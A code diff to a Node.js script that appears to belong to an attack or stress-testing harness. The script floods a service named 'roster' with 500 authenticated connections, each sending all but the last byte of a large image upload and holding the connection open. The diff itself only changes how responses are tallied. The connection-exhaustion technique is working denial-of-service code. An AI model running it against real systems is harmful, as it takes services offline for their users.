@@ -1,6 +1,6 @@
 import { connect } from 'node:net';
 import { multipart, png } from '../../player/images.mjs';
-import { addressOf, flood, orders } from './attack.mjs';
+import { addressOf, count, flood, orders } from './attack.mjs';
 
 /** Sends all but the last byte of an upload, and waits until the service closes the connection. */
 const part = { name: 'file', fileName: 'large.png', type: 'image/png', data: png(1, 1, 1_000_000) };
@@ -10,7 +10,6 @@ const { hostname, port } = new URL(orders.base);
 flood(
   (connection) =>
     new Promise((resolve) => {
-      let status = 'closed without a response';
       const socket = connect({ host: hostname, port, localAddress: addressOf(connection) }, () => {
         socket.write(
           `POST /files HTTP/1.1\r\nHost: roster\r\nAuthorization: Bearer ${orders.tokens[connection % orders.tokens.length]}\r\n` +
@@ -18,8 +17,8 @@ flood(
         );
         socket.write(body.subarray(0, -1));
       });
-      socket.on('data', (chunk) => (status = /^HTTP\/1.1 (\d+)/.exec(chunk)?.[1] ?? status));
-      socket.on('error', () => undefined).on('close', () => resolve(status));
+      socket.once('data', (chunk) => count(/^HTTP\/1.1 (\d+)/.exec(chunk)?.[1] ?? 'no HTTP'));
+      socket.on('error', () => undefined).on('close', () => resolve('closed'));
     }),
   500,
 );
